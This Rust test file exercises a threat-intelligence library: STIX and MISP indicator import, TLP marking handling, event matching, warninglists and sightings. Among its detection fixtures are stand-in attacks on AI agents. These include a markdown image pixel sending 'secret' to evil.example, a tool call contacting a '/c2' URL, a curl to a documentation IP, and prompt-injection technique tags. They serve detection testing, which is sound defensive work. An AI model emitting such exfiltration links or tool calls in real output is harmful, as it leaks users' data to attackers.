//! Import, matching and findings from the outside, and the corpus.

#![expect(
    clippy::unwrap_used,
    clippy::panic,
    clippy::print_stdout,
    reason = "a test stops at what it did not expect and says when it was skipped"
)]

mod corpus;

use bytes::Bytes;
use proptest::prelude::*;
use watchfloor_intel::{
    Matcher, Subdomains, Warninglists, finding, import_misp, import_stix, sighting,
};
use watchfloor_types::{
    Diagnostic, Event, EventId, FieldName, Indicator, Level, Logsource, Norm, Severity, Timestamp,
    Tlp, Value,
};

fn at(text: &str) -> Timestamp {
    text.parse().unwrap()
}

fn now() -> Timestamp {
    at("2026-11-20T12:00:00Z")
}

fn event(fields: &[(&str, &str)]) -> Event {
    Event {
        id: EventId::of_record(now(), 1, 0),
        time: now(),
        received: now(),
        source: "mcp".parse().unwrap(),
        tenant: "acme".parse().unwrap(),
        logsource: Logsource::default(),
        mark: None,
        native: Bytes::new(),
        norm: fields
            .iter()
            .map(|(k, v)| (FieldName::from(*k), Value::from(*v)))
            .collect::<Norm>(),
    }
}

/// `code level` of each remark, in order.
fn codes(diagnostics: &[Diagnostic]) -> String {
    let level = |l| match l {
        Level::Note => "note",
        Level::Warning => "warning",
        Level::Error => "error",
    };
    diagnostics
        .iter()
        .map(|d| format!("{} {}", d.code, level(d.level)))
        .collect::<Vec<_>>()
        .join(", ")
}

/// `kind value label` of each indicator, in order.
fn values(indicators: &[Indicator]) -> String {
    indicators
        .iter()
        .map(|i| format!("{} {} {}", i.kind, i.value, i.tlp))
        .collect::<Vec<_>>()
        .join(", ")
}

const ID: &str = "indicator--8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f";
const AMBER: &str =
    r#","object_marking_refs":["marking-definition--55d920b0-5e8b-4f79-9ee9-91f868d9b421"]"#;

fn indicator(pattern: &str, more: &str) -> String {
    let pattern = serde_json::to_string(pattern).unwrap();
    format!(
        r#"{{"type":"indicator","spec_version":"2.1","id":"{ID}","created":"2026-01-01T00:00:00Z","modified":"2026-01-01T00:00:00Z","name":"test","pattern_type":"stix","valid_from":"2026-01-01T00:00:00Z","pattern":{pattern}{more}}}"#
    )
}

fn bundle(objects: &[String]) -> String {
    format!(
        r#"{{"type":"bundle","id":"bundle--f64de948-7067-4534-8018-85f03d470625","objects":[{}]}}"#,
        objects.join(",\n")
    )
}

#[test]
fn stix_indicators_become_values_or_remarks() {
    let check = |pattern: &str, more: &str, expected: (&str, &str)| {
        let text = bundle(&[indicator(pattern, &format!("{AMBER}{more}"))]);
        let (imported, diagnostics) = import_stix(&text, "feed", now());
        assert_eq!(imported.objects.len(), 1, "{pattern}");
        assert!(text.contains(&imported.objects[0].json), "verbatim");
        assert_eq!(
            (
                values(&imported.indicators).as_str(),
                codes(&diagnostics).as_str()
            ),
            expected,
            "{pattern} {more}"
        );
    };
    check(
        "[ipv4-addr:value = '192.0.2.1/32']",
        "",
        ("ipv4 192.0.2.1 TLP:AMBER", ""),
    );
    check(
        "[ipv6-addr:value = '2001:DB8::0/32']",
        "",
        ("cidr 2001:db8::/32 TLP:AMBER", ""),
    );
    check(
        "[url:value = 'HTTP://Evil.Example' OR domain-name:value IN ('A.example.', 'b.example')]",
        "",
        (
            "url http://evil.example/ TLP:AMBER, domain a.example TLP:AMBER, domain b.example TLP:AMBER",
            "",
        ),
    );
    check(
        "[domain-name:value = 'evil[.]example']",
        "",
        ("domain evil.example TLP:AMBER", "I011 note"),
    );
    check("[file:hashes.MD5 = 'zz']", "", ("", "I007 warning"));
    check("[file:name = 'x']", "", ("", "I005 warning"));
    check("[file:name = ", "", ("", "I004 error"));
    check(
        "[url:value = 'http://a.example/']",
        r#","revoked":true"#,
        ("", "I012 note"),
    );
    check(
        "[url:value = 'http://a.example/']",
        r#","valid_until":"2026-02-01T00:00:00Z""#,
        ("url http://a.example/ TLP:AMBER", "I012 note"),
    );
    check(
        "[url:value = 'http://a.example/']",
        r#","valid_until":"soon""#,
        ("url http://a.example/ TLP:AMBER", "I010 warning"),
    );
    check(
        "rule x {}",
        r#","pattern_type":"yara""#,
        ("", "I006 warning"),
    );
}

#[test]
fn every_known_marking_is_read_and_unknown_ones_narrow() {
    for (refs, tlp, said) in [
        (
            r#"["marking-definition--613f2e26-407d-48c7-9eca-b8e91df99dc9"]"#,
            Tlp::Clear,
            "",
        ),
        (
            r#"["marking-definition--34098fce-860f-48ae-8e50-ebd3cc5e41da"]"#,
            Tlp::Green,
            "",
        ),
        (
            r#"["marking-definition--f88d31f6-486f-44da-b317-01333bde0b82"]"#,
            Tlp::Amber,
            "",
        ),
        (
            r#"["marking-definition--5e57c739-391a-4eb3-b6be-7d15ca92d5ed"]"#,
            Tlp::Red,
            "",
        ),
        (
            r#"["marking-definition--94868c89-83c2-464b-929b-a1a8aa3c8487"]"#,
            Tlp::Clear,
            "",
        ),
        (
            r#"["marking-definition--bab4a63c-aed9-4cf5-a766-dfca5abac2bb"]"#,
            Tlp::Green,
            "",
        ),
        (
            r#"["marking-definition--939a9414-2ddd-4d32-a0cd-375ea402b003"]"#,
            Tlp::AmberStrict,
            "",
        ),
        (
            r#"["marking-definition--e828b379-4e03-4974-9ac4-e53a884c97c1"]"#,
            Tlp::Red,
            "",
        ),
        (
            r#"["marking-definition--613f2e26-407d-48c7-9eca-b8e91df99dc9","marking-definition--5e57c739-391a-4eb3-b6be-7d15ca92d5ed"]"#,
            Tlp::Red,
            "",
        ),
        (
            r#"["marking-definition--00000000-0000-4000-8000-000000000000"]"#,
            Tlp::AmberStrict,
            "I008 warning",
        ),
        ("[]", Tlp::Amber, "I009 note"),
    ] {
        let more = format!(r#","object_marking_refs":{refs}"#);
        let text = bundle(&[indicator("[url:value = 'http://a.example/']", &more)]);
        let (imported, diagnostics) = import_stix(&text, "feed", now());
        assert_eq!(imported.indicators[0].tlp, tlp, "{refs}");
        assert_eq!(codes(&diagnostics), said, "{refs}");
    }
    // A statement that the bundle brings along says nothing about sharing.
    let statement = r#"{"type":"marking-definition","spec_version":"2.1","id":"marking-definition--c4099854-e00c-5dbc-b0fe-4c9909920101","created":"2026-01-01T00:00:00Z","definition_type":"statement","definition":{"statement":"x"}}"#;
    let more = r#","object_marking_refs":["marking-definition--c4099854-e00c-5dbc-b0fe-4c9909920101","marking-definition--34098fce-860f-48ae-8e50-ebd3cc5e41da"]"#;
    let text = bundle(&[
        indicator("[url:value = 'http://a.example/']", more),
        statement.to_owned(),
    ]);
    let (imported, diagnostics) = import_stix(&text, "feed", now());
    assert_eq!(
        (imported.indicators[0].tlp, codes(&diagnostics).as_str()),
        (Tlp::Green, "")
    );
}

#[test]
fn remarks_point_into_the_text() {
    let text = format!(
        "{{\"type\":\"bundle\",\"id\":\"bundle--f64de948-7067-4534-8018-85f03d470625\",\"objects\":[\n  {{\"type\":\"indicator\"}},\n  {}\n]}}",
        indicator("[url:value ~ 'x']", AMBER)
    );
    let (_, diagnostics) = import_stix(&text, "feed.json", now());
    let shown: Vec<String> = diagnostics.iter().map(ToString::to_string).collect();
    assert_eq!(
        shown[0],
        "feed.json:2:3: error[I003]: object is not imported: it has no `id`"
    );
    let place = diagnostics[1].place.as_ref().unwrap();
    let line = text.lines().nth(2).unwrap();
    let found: String = line
        .chars()
        .skip(place.column as usize - 1)
        .take(place.length as usize)
        .collect();
    assert_eq!((place.line, found.as_str()), (3, "\"[url:value ~ 'x']\""));

    let (_, diagnostics) = import_stix("{\n \"a\": }", "feed.json", now());
    assert!(
        diagnostics[0]
            .to_string()
            .starts_with("feed.json:2:7: error[I001]"),
        "{}",
        diagnostics[0]
    );
}

#[test]
fn the_latest_version_and_its_relations_count() {
    let newer = indicator("[url:value = 'http://new.example/']", AMBER)
        .replace("\"modified\":\"2026-01-01", "\"modified\":\"2026-03-01");
    let older = indicator("[url:value = 'http://old.example/']", AMBER);
    let technique = r#"{"type":"attack-pattern","id":"attack-pattern--0042a9f5-f053-4769-b3ef-9ad018dfa298","name":"x","external_references":[{"source_name":"mitre-atlas","external_id":"AML.T0051.001"}]}"#;
    let relation = format!(
        r#"{{"type":"relationship","id":"relationship--44298a74-ba52-4f0c-87a3-1824e67d7fad","relationship_type":"indicates","source_ref":"{ID}","target_ref":"attack-pattern--0042a9f5-f053-4769-b3ef-9ad018dfa298"}}"#
    );
    let text = bundle(&[newer, older, technique.to_owned(), relation]);
    let (imported, _) = import_stix(&text, "feed", now());
    assert_eq!(imported.objects.len(), 4);
    assert_eq!(
        values(&imported.indicators),
        "url http://new.example/ TLP:AMBER"
    );
    assert_eq!(imported.indicators[0].techniques, ["AML.T0051.001"]);
}

#[test]
fn misp_attributes_become_values_or_remarks() {
    let text = r#"{"Event": {"info": "Lantern", "distribution": "1",
      "Tag": [{"name": "tlp:green"}, {"name": "misp-galaxy:mitre-attack-pattern=\"Phishing - T1566\""}, {"name": "osint:certainty=\"93\""}],
      "Galaxy": [{"GalaxyCluster": [{"meta": {"external_id": ["AML.T0051"]}}]}],
      "Attribute": [
        {"type": "ip-dst|port", "value": "192.0.2.9|443", "to_ids": true, "uuid": "5a3c2fcd-0000-4000-8000-000000000001", "timestamp": "1472548231"},
        {"type": "domain|ip", "value": "Evil[.]example|2001:db8::9", "to_ids": true, "Tag": [{"name": "tlp:red"}]},
        {"type": "filename|sha256", "value": "a|b.exe|E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855", "to_ids": "1"},
        {"type": "url", "value": "http://x.example/", "to_ids": false},
        {"type": "url", "value": "http://y.example/", "to_ids": true, "deleted": true},
        {"type": "mutex", "value": "m", "to_ids": true},
        {"type": "md5", "value": "nope", "to_ids": true},
        {"to_ids": true}, 5],
      "Object": [{"name": "url", "Attribute": [{"type": "url", "value": "http://z.example/p", "to_ids": true, "Tag": [{"name": "tlp:clear"}]}]}]}}"#;
    let (imported, diagnostics) = import_misp(text, "event.json", now());
    assert_eq!(
        values(&imported.indicators),
        "ipv4 192.0.2.9 TLP:GREEN, domain evil.example TLP:RED, ipv6 2001:db8::9 TLP:RED, \
         sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 TLP:GREEN, \
         url http://z.example/p TLP:GREEN"
    );
    assert_eq!(
        codes(&diagnostics),
        "I011 note, I015 warning, I007 warning, I003 error, I003 error"
    );
    let first = &imported.indicators[0];
    assert_eq!(first.valid_from, at("2016-08-30T09:10:31Z"));
    assert_eq!(
        (first.confidence, first.techniques.join(" ").as_str()),
        (Some(93), "AML.T0051 T1566")
    );
}

fn matcher(subdomains: Subdomains) -> Matcher {
    let pattern = "[ipv4-addr:value = '192.0.2.1' OR ipv4-addr:value = '198.51.100.0/24' \
        OR ipv6-addr:value = '2001:db8::/32' OR domain-name:value = 'evil.example' \
        OR url:value = 'https://evil.example/c2?k=1' OR email-addr:value = 'Joe@evil.example' \
        OR file:hashes.'SHA-256' = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855' \
        OR ipv4-addr:value = '0.0.0.0/0']";
    let (imported, _) = import_stix(&bundle(&[indicator(pattern, AMBER)]), "feed", now());
    Matcher::build_with(
        imported
            .indicators
            .into_iter()
            .filter(|i| i.value != "0.0.0.0/0")
            .collect(),
        subdomains,
    )
}

#[test]
fn values_in_events_are_found() {
    let check = |subdomains, fields: &[(&str, &str)], expected: &str| {
        let mut found = Vec::new();
        matcher(subdomains).match_event(&event(fields), &mut found);
        let mut shown: Vec<String> = found
            .iter()
            .map(|m| format!("{}={}", m.field, m.indicator.value))
            .collect();
        shown.sort();
        assert_eq!(shown.join(" "), expected, "{fields:?}");
    };
    let exact = Subdomains::Ignore;
    check(exact, &[("source.ip", "192.0.2.1")], "source.ip=192.0.2.1");
    check(
        exact,
        &[("source.ip", "::ffff:192.0.2.1")],
        "source.ip=192.0.2.1",
    );
    check(
        exact,
        &[("destination.ip", "198.51.100.77")],
        "destination.ip=198.51.100.0/24",
    );
    check(
        exact,
        &[("destination.ip", "2001:db8:1::1")],
        "destination.ip=2001:db8::/32",
    );
    check(
        exact,
        &[("dns.question.name", "EVIL.example.")],
        "dns.question.name=evil.example",
    );
    check(exact, &[("dns.question.name", "a.evil.example")], "");
    check(
        Subdomains::Match,
        &[("dns.question.name", "a.evil.example")],
        "dns.question.name=evil.example",
    );
    check(
        Subdomains::Match,
        &[("dns.question.name", "notevil.example")],
        "",
    );
    check(
        exact,
        &[("url.full", "https://evil.example/c2?k=1#x")],
        "url.full=evil.example url.full=https://evil.example/c2?k=1",
    );
    check(
        exact,
        &[("url.full", "https://192.0.2.1:8443/")],
        "url.full=192.0.2.1",
    );
    check(
        exact,
        &[("user.email", "joe@EVIL.example")],
        "user.email=joe@evil.example",
    );
    check(
        exact,
        &[(
            "file.hash.sha256",
            "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855",
        )],
        "file.hash.sha256=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    );
    check(
        exact,
        &[(
            "gen_ai.tool.call.arguments",
            r#"{"to":"joe@evil.example","u":"https:\/\/evil.example\/c2?k=1"}"#,
        )],
        "gen_ai.tool.call.arguments=evil.example gen_ai.tool.call.arguments=https://evil.example/c2?k=1 gen_ai.tool.call.arguments=joe@evil.example",
    );
    check(
        exact,
        &[(
            "ai.response.text",
            "![pixel](https://evil.example/p.png?d=secret)",
        )],
        "ai.response.text=evil.example",
    );
    check(
        exact,
        &[("ai.prompt.text", "curl 198.51.100.3:80 now")],
        "ai.prompt.text=198.51.100.0/24",
    );
    check(exact, &[("host.name", "evil.example")], "");
}

#[test]
fn validity_is_that_of_the_event() {
    let more = format!(r#"{AMBER},"valid_until":"2026-11-20T12:00:00Z""#);
    let text = bundle(&[indicator("[domain-name:value = 'evil.example']", &more)]);
    let matcher = Matcher::build(import_stix(&text, "feed", now()).0.indicators);
    let check = |time: &str, count| {
        let mut event = event(&[("url.domain", "evil.example")]);
        event.time = at(time);
        let mut found = Vec::new();
        matcher.match_event(&event, &mut found);
        assert_eq!(found.len(), count, "{time}");
    };
    check("2025-12-31T23:59:59Z", 0);
    check("2026-01-01T00:00:00Z", 1);
    check("2026-11-20T11:59:59Z", 1);
    check("2026-11-20T12:00:00Z", 0);
}

#[test]
fn a_match_becomes_one_finding_and_one_sighting() {
    let more = format!(r#"{AMBER},"confidence":85,"labels":["AML.T0051"]"#);
    let text = bundle(&[indicator("[domain-name:value = 'evil.example']", &more)]);
    let matcher = Matcher::build(import_stix(&text, "feed", now()).0.indicators);
    let event = event(&[
        ("ai.untrusted.text", "see evil.example/x"),
        ("ai.principal.id", "support-agent"),
    ]);
    let mut found = Vec::new();
    matcher.match_event(&event, &mut found);
    assert_eq!(found.len(), 1);
    let later = at("2026-11-21T00:00:00Z");
    let first = finding(&found[0], &event, now());
    let again = finding(&found[0], &event, later);
    assert_eq!(
        (first.id, first.detected, again.detected),
        (again.id, now(), later)
    );
    assert_eq!(first.rule.id.as_str(), ID);
    assert_eq!((first.severity, first.tlp), (Severity::High, Tlp::Amber));
    assert_eq!(first.techniques, ["AML.T0051"]);
    assert_eq!(first.matched[0].predicate, "contains \"evil.example\"");
    assert!(
        first
            .entities
            .contains(&("ai.principal.id".to_owned(), "support-agent".into()))
    );

    let seen = sighting(&found[0], later).unwrap();
    assert_eq!(seen["sighting_of_ref"], ID);
    assert_eq!(seen["first_seen"], "2026-11-20T12:00:00.000Z");
    assert_eq!(sighting(&found[0], now()).unwrap()["id"], seen["id"]);
    let (reimported, diagnostics) = import_stix(&seen.to_string(), "own", later);
    assert_eq!(
        (reimported.objects[0].tlp, codes(&diagnostics).as_str()),
        (Tlp::Amber, "")
    );
}

#[test]
fn warninglists_take_common_values_out() {
    let lists = [
        (
            "cidr",
            r#"{"name":"private","type":"cidr","list":["10.0.0.0/8","192.0.2.1"],"matching_attributes":["ip-src","ip-dst"]}"#,
        ),
        (
            "host",
            r#"{"name":"hosts","type":"hostname","list":["github.example",".cdn.example"]}"#,
        ),
        (
            "str",
            r#"{"name":"hashes","type":"string","list":["D41D8CD98F00B204E9800998ECF8427E"],"matching_attributes":["md5"]}"#,
        ),
        (
            "sub",
            r#"{"name":"parts","type":"substring","list":["/Documents/"],"matching_attributes":["url"]}"#,
        ),
        ("re", r#"{"name":"regex","type":"regex","list":["a.*"]}"#),
        ("bad", r#"{"name":"none"}"#),
    ];
    let (lists, diagnostics) = Warninglists::load(lists);
    assert_eq!(codes(&diagnostics), "I017 warning, I017 error");
    let pattern = "[ipv4-addr:value IN ('10.1.2.0/24', '192.0.2.1', '192.0.2.2') \
        OR url:value IN ('https://raw.github.example/x', 'https://a.example/documents/x', 'https://b.example/') \
        OR domain-name:value IN ('cdn.example', 'x.cdn.example', 'other.example') \
        OR file:hashes.MD5 = 'd41d8cd98f00b204e9800998ecf8427e']";
    let (imported, _) = import_stix(&bundle(&[indicator(pattern, AMBER)]), "feed", now());
    let (kept, listed, said) = lists.part(imported.indicators);
    assert_eq!(
        kept.iter().map(|i| i.value.as_str()).collect::<Vec<_>>(),
        ["192.0.2.2", "https://b.example/", "other.example"]
    );
    assert_eq!((listed.len(), said.len()), (7, 7));
    assert!(
        said.iter()
            .all(|d| d.code == "I014" && d.level == Level::Note)
    );
}

proptest! {
    /// Cutting, doubling and changing bytes of good input gives remarks, never a panic.
    #[test]
    fn mutated_input_never_panics(at in 0usize..2000, cut in 0usize..40, byte in any::<char>()) {
        let stix = bundle(&[indicator("[url:value = 'http://a.example/' OR file:hashes.MD5 = 'd41d8cd98f00b204e9800998ecf8427e']", AMBER)]);
        let misp = r#"{"Event":{"info":"x","Tag":[{"name":"tlp:ex:chr"}],"Attribute":[{"type":"ip-dst|port","value":"192.0.2.9|443","to_ids":true,"timestamp":"1"}]}}"#;
        for text in [stix.as_str(), misp] {
            let chars: Vec<char> = text.chars().collect();
            let at = at % chars.len();
            let mut changed: String = chars[..at].iter().collect();
            changed.push(byte);
            changed.extend(&chars[(at + cut).min(chars.len())..]);
            for (imported, _) in [import_stix(&changed, "x", now()), import_misp(&changed, "x", now())] {
                let matcher = Matcher::build(imported.indicators);
                matcher.match_event(&event(&[("ai.prompt.text", &changed), ("url.full", &changed)]), &mut Vec::new());
            }
            drop(Warninglists::load([("x", changed.as_str())]));
        }
    }

    /// Looking up in the table and networks equals comparing with every indicator.
    #[test]
    fn the_fast_way_equals_the_slow_way(nets in proptest::collection::vec((any::<u32>(), 0u8..=32), 1..40), address in any::<u32>()) {
        let addr = |bits: u32| std::net::Ipv4Addr::from_bits(bits).to_string();
        let set: Vec<String> = nets.iter().map(|(bits, len)| format!("'{}/{len}'", addr(bits & 0xFF00_00FF))).collect();
        let pattern = format!("[ipv4-addr:value IN ({})]", set.join(", "));
        let (imported, _) = import_stix(&bundle(&[indicator(&pattern, AMBER)]), "feed", now());
        let address = addr(address & 0xFF00_00FF);
        let ip: std::net::IpAddr = address.parse().unwrap();
        let mut slow: Vec<String> = imported.indicators.iter().map(|i| i.value.clone()).filter(|v| {
            v.parse::<ipnet::IpNet>().map_or_else(|_| *v == address, |net| net.contains(&ip))
        }).collect();
        slow.sort();
        slow.dedup();
        let mut found = Vec::new();
        Matcher::build(imported.indicators).match_event(&event(&[("source.ip", &address)]), &mut found);
        let mut fast: Vec<String> = found.into_iter().map(|m| m.indicator.value).collect();
        fast.sort();
        prop_assert_eq!(fast, slow);
    }
}
